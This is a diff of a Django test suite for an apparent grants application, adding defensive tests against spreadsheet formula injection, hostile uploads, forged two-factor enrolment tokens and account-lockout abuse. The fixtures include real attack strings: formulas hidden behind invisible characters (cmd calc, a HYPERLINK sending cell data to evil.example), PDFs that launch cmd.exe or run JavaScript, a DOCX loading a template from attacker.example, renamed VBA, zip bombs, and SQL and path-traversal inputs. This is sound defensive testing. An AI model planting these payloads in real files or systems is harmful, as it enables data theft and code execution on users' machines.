@@ -13,6 +13,9 @@ UTF-8 (a lone surrogate cannot be encoded, so its UTF-8-style bytes are sent).
 """
 
 import datetime
+import hashlib
+import re
+import unicodedata
 from dataclasses import dataclass
 from functools import cache
 from html.parser import HTMLParser
@@ -23,6 +26,8 @@ import pytest
 from django.conf import settings
 from django.urls import reverse
 from django.utils.html import escape
+from django_otp.plugins.otp_static.models import StaticDevice
+from django_otp.plugins.otp_totp.models import TOTPDevice
 
 from grants.models import (
     BudgetLine,
@@ -41,16 +46,32 @@ from tests.factories import (
     OrganisationFactory,
     ProjectFactory,
     ReminderFactory,
+    StaffUserFactory,
+    TwoFactorInvitationFactory,
     UserFactory,
     UtilisationCertificateFactory,
 )
 from tests.test_exports import column, csv_rows, export
 from tests.test_services import project_ready_to_close
 from tests.test_uploads import (
+    CATALOG,
+    PAGES,
     PDF_BYTES,
+    VBA,
+    VBA_PROJECT,
+    VBA_RELATIONSHIP,
     docx_bytes,
+    forged_bomb,
+    javascript_on_opening,
+    jpeg_bytes,
+    jpeg_segment,
     ooxml_bytes,
+    page_with,
+    pdf_document,
+    pikepdf_bytes,
     png_bytes,
+    png_chunk,
+    script_in_a_comment_between_objects,
     zip_bytes,
 )
 
@@ -150,11 +171,28 @@ def assert_shown_inert(response, text: str):
 
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+# Kept in an exported cell though they are control or format characters.
+KEPT_IN_CELLS = "\t\n\r\u200c\u200d"
 
 
 def as_exported(text: str) -> str:
-    """A spreadsheet must read the text as text: a formula gets an apostrophe."""
-    return "'" + text if text.startswith(FORMULA_STARTS) else text
+    """A spreadsheet must read the text as text, whatever it drops or hides.
+
+    First the characters it would drop or hide go (control characters but tab,
+    line feed and carriage return; format characters but the zero-width joiner
+    and non-joiner); then a formula, its first character after whitespace and
+    joiners a trigger, gets an apostrophe.
+    """
+    shown = "".join(
+        character
+        for character in text
+        if character in KEPT_IN_CELLS
+        or unicodedata.category(character) not in ("Cc", "Cf")
+    )
+    first = re.sub(r"^[\s\u200c\u200d]*", "", shown)
+    if shown.startswith(FORMULA_STARTS) or first.startswith(FORMULA_STARTS):
+        return "'" + shown
+    return shown
 
 
 # Encoding bodies by hand --------------------------------------------------------------
@@ -253,9 +291,17 @@ TEXTS = [
     Text("csv-minus", "-2+3+cmd|' /C calc'!A0"),
     Text("csv-at-sum", "@SUM(1+9)*cmd|' /C calc'!A0"),
     Text("csv-tab-then-formula", "\t=1+1"),
+    # Spreadsheet formulas behind characters a spreadsheet drops or hides
+    Text("control-then-formula", '\x01=HYPERLINK("https://evil.example/?d="&A1)'),
+    Text("escape-then-formula", "\x1b+cmd|' /C calc'!A0"),
+    Text("delete-then-formula", "\x7f@SUM(1+9)*cmd|' /C calc'!A0"),
+    Text("zero-width-then-formula", '\u200b=HYPERLINK("https://evil.example")'),
+    Text("byte-order-mark-then-formula", "\ufeff-2+3+cmd|' /C calc'!A0"),
+    Text("direction-marks-then-formula", "\u200f\u202e=1+1"),
     # Unicode
     Text("rtl-override", "UC approved \u202egnp.exe"),
     Text("zero-width", "pay\u200bment\u200c due\u200d\u2060now\ufeff"),
+    Text("invisible-only", "\u200b\u200c\u200d\u2060\ufeff\u202e", kept_as=""),
     Text("nul-byte", "report\x00<script>alert(1)</script>"),
     Text(
         "lone-surrogate",
@@ -665,6 +711,20 @@ def pdf_with(body: bytes) -> bytes:
     return b"%PDF-1.7\n" + body + b"\n%%EOF\n"
 
 
+def pdf_opening_with(action: bytes) -> bytes:
+    """A sound one-page PDF that runs this action when it is opened."""
+    catalog = CATALOG[:-2] + b"/OpenAction 4 0 R >>"
+    return pdf_document(catalog, PAGES, page_with(), action)
+
+
+@cache
+def forged_zip_bomb() -> bytes:
+    return forged_bomb()
+
+
+SCRIPT = b"<script>alert(document.cookie)</script>"
+
+
 @dataclass(frozen=True)
 class HostileFile:
     """A file made to hurt, and the words its refusal must say."""
@@ -736,16 +796,61 @@ HOSTILE_FILES = [
     HostileFile(
         "pdf-with-javascript",
         "report.pdf",
-        lambda: pdf_with(
-            b"1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"
-        ),
+        lambda: pdf_opening_with(b"<< /S /JavaScript /JS (app.alert(1)) >>"),
         "is a PDF that contains JavaScript",
     ),
     HostileFile(
         "pdf-with-launch-action",
         "report.pdf",
-        lambda: pdf_with(b"1 0 obj << /OpenAction << /S /Launch /F (cmd.exe) >> >>"),
+        lambda: pdf_opening_with(b"<< /S /Launch /F (cmd.exe) >>"),
         "an action that starts a program",
+    ),
+    HostileFile(
+        "pdf-javascript-in-an-object-stream",
+        "report.pdf",
+        lambda: pikepdf_bytes(javascript_on_opening),
+        "is a PDF that contains JavaScript",
+    ),
+    HostileFile(
+        "pdf-with-a-script-in-its-middle",
+        "report.pdf",
+        script_in_a_comment_between_objects,
+        "is a PDF document with web page or script code",
+    ),
+    HostileFile(
+        "pdf-that-cannot-be-parsed",
+        "report.pdf",
+        lambda: pdf_with(b"1 0 obj << /OpenAction << /S /JavaScript >> >>"),
+        "cannot be read as a PDF",
+    ),
+    HostileFile(
+        "pdf-locked-with-a-password",
+        "report.pdf",
+        lambda: pikepdf_bytes(password="secret"),
+        "is protected with a password",
+    ),
+    HostileFile(
+        "png-with-html-in-a-text-chunk",
+        "photo.png",
+        lambda: png_bytes(  # the text is in neither the first nor the last kB
+            png_chunk(b"prVt", b"\x00" * 2000),
+            png_chunk(b"tEXt", b"Comment\x00" + SCRIPT),
+            png_chunk(b"prVt", b"\x00" * 2000),
+        ),
+        "web page or script code",
+        "image/png",
+        said_where_only_pdf_is_taken="is a PNG image; only PDF files are accepted",
+    ),
+    HostileFile(
+        "jpeg-with-html-in-a-comment",
+        "photo.jpg",
+        lambda: jpeg_bytes(  # the comment is in neither the first nor the last kB
+            jpeg_segment(0xFE, b"\x00" * 2000 + SCRIPT),
+            jpeg_segment(0xE2, b"\x00" * 2000),
+        ),
+        "web page or script code",
+        "image/jpeg",
+        said_where_only_pdf_is_taken="is a JPEG image; only PDF files are accepted",
     ),
     HostileFile(
         "png-with-html-after-its-end",
@@ -772,6 +877,40 @@ HOSTILE_FILES = [
         lambda: zip_bomb("xl/workbook.xml", EXCEL_MAIN, "xl/worksheets/sheet1.xml"),
         "zip bomb",
         "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
+    ),
+    HostileFile(
+        "zip-bomb-with-forged-sizes-in-xlsx",
+        "budget.xlsx",
+        forged_zip_bomb,
+        "zip bomb",
+        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
+    ),
+    HostileFile(
+        "docx-with-renamed-vba",
+        "narrative.docx",
+        lambda: docx_bytes(
+            extra=[("word/payload.bin", VBA_PROJECT)],
+            overrides=[("word/payload.bin", VBA)],
+            relationships=[(VBA_RELATIONSHIP, "payload.bin", False)],
+        ),
+        "macros",
+        WORD,
+    ),
+    HostileFile(
+        "docx-with-a-remote-template",
+        "narrative.docx",
+        lambda: docx_bytes(
+            relationships=[
+                (
+                    "http://schemas.openxmlformats.org/officeDocument/2006/"
+                    "relationships/attachedTemplate",
+                    "http://attacker.example/template.dotm",
+                    True,
+                )
+            ]
+        ),
+        "from elsewhere",
+        WORD,
     ),
     HostileFile(
         "docx-with-macros",
@@ -1261,3 +1400,80 @@ def test_every_filter_sort_and_page_parameter_of_a_staff_table_survives_sql(
         assert active_markup(response.content.decode()) == []
         assert shown_tags(response, name_of) <= {"PCT", "UND", "BSL", "APO", "PLN"}
     assert Project.objects.count() == len(searchable)
+
+
+# Enrolling a second factor with the password only (staff, 2FA required) --------------
+
+THE_LINK = "the-officers-enrolment-link-from-the-e-mail"
+
+# What someone with the password alone might put where the e-mailed link's token goes.
+ENROLMENT_LINKS = {
+    "no link at all": None,
+    "a made-up token": "A" * 43,
+    "the real token in capitals": THE_LINK.upper(),
+    "the real token cut short": THE_LINK[:-1],
+    "the stored hash of the real token": hashlib.sha256(THE_LINK.encode()).hexdigest(),
+    "a colleague's token": "a-colleagues-enrolment-link",
+    "SQL": "x' OR '1'='1",
+    "a NUL byte": "%00",
+    "a path up the tree": "..%2F..%2Fadmin",
+    "ten thousand characters": "a" * 10_000,
+}
+
+
+@pytest.mark.parametrize("link", list(ENROLMENT_LINKS), ids=list(ENROLMENT_LINKS))
+def test_enrolment_without_an_invitation_links_no_device(client, settings, link):
+    settings.KHANIJ_STAFF_2FA_REQUIRED = True
+    officer = StaffUserFactory()
+    real = TwoFactorInvitationFactory(user=officer, token=THE_LINK)
+    TwoFactorInvitationFactory(token="a-colleagues-enrolment-link")
+    login(client, officer)
+
+    token = ENROLMENT_LINKS[link]
+    if token is not None:
+        opened = client.get(f"/accounts/two-factor/enrol/{token}/")
+        assert opened.status_code in (302, 403, 404)
+        assert opened.get("Location") != reverse("two-factor-setup")
+    page = client.get(reverse("two-factor-setup"))
+    posted = client.post(reverse("two-factor-setup"), {"token": "123456"})
+
+    assert page.status_code == posted.status_code == 403
+    assert not TOTPDevice.objects.filter(user=officer).exists()
+    assert not StaticDevice.objects.filter(user=officer).exists()
+    real.refresh_from_db()
+    assert real.used_at is None
+
+
+# Locking someone else out: wrong passwords from another address -----------------
+
+# Whose name a stranger types, and how the stranger varies it.
+LOCKOUT_TARGETS = {
+    "a principal investigator": ("pi-iast", False, "pi-iast"),
+    "a staff officer": ("po-ministry", True, "po-ministry"),
+    "the name in capitals": ("pi-iast", False, "PI-IAST"),
+    "the name with spaces around it": ("pi-iast", False, " pi-iast "),
+}
+
+
+@pytest.mark.parametrize("target", list(LOCKOUT_TARGETS), ids=list(LOCKOUT_TARGETS))
+def test_wrong_passwords_from_a_strangers_address_never_lock_the_owner_out(
+    client, settings, target
+):
+    settings.AXES_ENABLED = True
+    username, is_staff, typed = LOCKOUT_TARGETS[target]
+    UserFactory(username=username, is_staff=is_staff)
+    for _ in range(20):
+        client.post(
+            reverse("login"),
+            {"username": typed, "password": "wrong"},
+            REMOTE_ADDR="10.0.0.1",
+        )
+
+    owner = client.post(
+        reverse("login"),
+        {"username": username, "password": "test-pass-123"},
+        REMOTE_ADDR="10.0.0.2",
+    )
+
+    assert owner.status_code == 302
+    assert client.session["_auth_user_id"]
